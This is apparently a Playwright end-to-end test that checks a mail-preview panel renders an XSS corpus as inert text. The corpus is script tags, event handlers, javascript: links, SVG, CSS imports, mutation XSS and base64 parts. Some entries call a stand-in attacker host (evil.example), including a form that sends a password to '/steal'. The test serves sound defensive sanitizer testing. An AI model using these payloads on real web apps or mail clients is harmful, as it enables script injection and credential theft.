/**
 * An XSS corpus in mail bodies (script tags, event handlers, javascript: URLs, SVG, CSS tricks,
 * mutation XSS, encoded parts) shown in the panel's preview: nothing runs in Chromium, nothing
 * is fetched from the attacker's host, and the harmless text is still readable.
 */
import type { Request } from 'playwright-core';
import type { RunningEmulator } from '../support/emulator';
import { pageUrl, startAppEmulator } from './support/appServer';
import { launchBrowser, type TestBrowser } from './support/chromium';
import { captureAll, ceoMail, storeAs } from './support/evidenceSeed';
import { collectPageErrors, pickDemoUser, visible } from './support/page';
import { warmUp } from './support/warmUp';

jest.setTimeout(240_000);

const EVIL = 'evil.example';

/** [id, html]; each body carries a visible marker "Text <id>". */
const CORPUS: Array<[string, string]> = [
  ['script', `<p>Text script</p><script>window.__xss='script'</script>`],
  ['onerror', `<p>Text onerror</p><img src="x" onerror="window.__xss='onerror'">`],
  ['javascript-link', `<p>Text javascript-link</p><a href="javascript:window.__xss='link'">Klick javascript-link</a>`],
  ['entity-link', `<p>Text entity-link</p><a href="jav&#x61;script&colon;window.__xss='entity'">Klick entity-link</a>`],
  ['svg-onload', `<p>Text svg-onload</p><svg onload="window.__xss='svg'"><circle r="5"/></svg>`],
  ['svg-script', `<p>Text svg-script</p><svg><script>window.__xss='svgscript'</script><a xlink:href="javascript:window.__xss='svglink'"><text>x</text></a></svg>`],
  ['css', `<p>Text css</p><style>@import url(https://${EVIL}/x.css); p { background: url(https://${EVIL}/bg.png) }</style><div style="background:url(https://${EVIL}/inline.png);position:fixed;inset:0">overlay</div>`],
  ['remote-image', `<p>Text remote-image</p><img src="https://${EVIL}/track.png"><img srcset="https://${EVIL}/s.png 1x">`],
  ['iframe', `<p>Text iframe</p><iframe src="https://${EVIL}/"></iframe><iframe srcdoc="<script>parent.__xss='srcdoc'</script>"></iframe>`],
  ['object', `<p>Text object</p><object data="javascript:window.__xss='object'"></object><embed src="https://${EVIL}/e.swf">`],
  ['form', `<p>Text form</p><form action="https://${EVIL}/steal"><input name="pw" value="geheim"><button formaction="javascript:window.__xss='form'">Senden form</button></form>`],
  ['meta', `<p>Text meta</p><meta http-equiv="refresh" content="0;url=https://${EVIL}/">`],
  ['mxss', `<p>Text mxss</p><math><mtext><table><mglyph><style><img src=x onerror="window.__xss='mxss'">`],
  ['noscript', `<p>Text noscript</p><noscript><p title="</noscript><img src=x onerror=window.__xss='noscript'>">`],
  ['template', `<p>Text template</p><template><img src=x onerror="window.__xss='template'"></template>`],
  ['details', `<p>Text details</p><details open ontoggle="window.__xss='details'"><summary>s</summary></details>`],
  ['base', `<p>Text base</p><base href="https://${EVIL}/"><a href="/relative">relative</a>`],
];

let emulator: RunningEmulator;
let browser: TestBrowser;
let pageErrors: string[];
const evilRequests: string[] = [];
const dialogs: string[] = [];

beforeAll(async () => {
  emulator = await startAppEmulator();
  const inputs = CORPUS.map(([id, html]) => ceoMail(`xss-${id}`, `XSS ${id}`, html));
  // A base64-encoded HTML part, as many mail clients send it.
  const encoded = ceoMail('xss-base64', 'XSS base64', '');
  encoded.content!.bytes = new TextEncoder().encode(
    `Subject: XSS base64\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(`<p>Text base64</p><img src=x onerror="window.__xss='base64'">`).toString('base64')}\r\n--b--\r\n`,
  );
  await captureAll(storeAs(emulator, 'katrin'), [...inputs, encoded]);
  browser = await launchBrowser({ locale: 'de-DE' });
  pageErrors = collectPageErrors(browser.page);
  browser.page.on('request', (request: Request) => {
    if (request.url().includes(EVIL)) evilRequests.push(request.url());
  });
  browser.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await browser.context.route(`https://${EVIL}/**`, (route) => route.abort());
  await warmUp(browser.page, emulator.url);
});

afterAll(async () => {
  await browser?.close();
  await emulator?.stop();
});

describe('XSS corpus in mail previews', () => {
  it('shows every mail body as inert text: nothing runs, nothing loads from the attacker', async () => {
    const { page } = browser;
    await page.goto(pageUrl('/teams/?view=evidence', emulator.url));
    await pickDemoUser(page, 'Demo-Benutzer', /Jonas Weber/);
    const grid = await visible(page.getByRole('table', { name: 'Nachweisliste' }));
    const detail = page.getByRole('region', { name: 'Details zum Nachweis' });
    for (const id of [...CORPUS.map(([id]) => id), 'base64']) {
      await page.getByRole('searchbox').fill(`XSS ${id}`);
      await (await visible(grid.getByRole('button', { name: `XSS ${id}`, exact: true }))).click();
      const body = await visible(detail.getByRole('document', { name: 'Inhalt der E-Mail' }));
      await visible(body.getByText(`Text ${id}`, { exact: true }));
      const html = await body.innerHTML();
      expect({ id, html }).toEqual({ id, html: expect.not.stringMatching(/<(script|svg|style|iframe|object|embed|form|meta|base|img|math|template|noscript)\b|\son\w+=|javascript:|style=/i) });
      // Clicking what looks like a link must not run anything either.
      for (const link of await body.getByRole('link').all()) await link.click({ modifiers: ['Alt'] }).catch(() => undefined);
    }
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(evilRequests).toEqual([]);
    expect(pageErrors).toEqual([]);
  });
});
